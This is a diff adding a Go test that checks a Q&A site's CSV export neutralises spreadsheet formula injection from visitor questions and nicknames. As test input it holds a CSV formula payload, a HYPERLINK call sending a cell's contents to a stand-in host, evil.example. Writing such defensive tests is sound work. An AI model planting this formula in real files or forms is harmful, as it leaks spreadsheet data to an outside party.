@@ -733,3 +733,26 @@ func TestSlowClients(t *testing.T) {
 		}
 	}
 }
+
+// TestCSVFormulaInjection: a visitor's question that starts with = or @
+// reaches the public CSV download as text, not as a spreadsheet formula.
+func TestCSVFormulaInjection(t *testing.T) {
+	f := newFixture(t, storetest.SQLite(t))
+	anon := f.client()
+	const question = `=HYPERLINK("http://evil.example/?"&A1,"点此查看")`
+	resp := anon.post("/c/suojin-4/qa", url.Values{"category": {"设施维修"}, "body": {question}, "nickname": {"@SUM(1+1)"}})
+	if b := body(t, resp); resp.StatusCode != http.StatusSeeOther && resp.StatusCode != http.StatusOK {
+		t.Fatalf("submit: %d\n%.300s", resp.StatusCode, b)
+	}
+	csv := body(t, anon.get("/c/suojin-4/qa/export.csv"))
+	if !strings.Contains(csv, `"'=HYPERLINK(`) {
+		t.Errorf("the question is not neutralised in the CSV:\n%s", csv)
+	}
+	if strings.Contains(csv, `,"=HYPERLINK(`) || strings.Contains(csv, ",=HYPERLINK(") {
+		t.Errorf("a cell of the CSV starts with a formula:\n%s", csv)
+	}
+	// Plain numbers, negative ones too, are left as numbers.
+	if !strings.Contains(csv, ",0,") {
+		t.Errorf("numbers changed:\n%s", csv)
+	}
+}
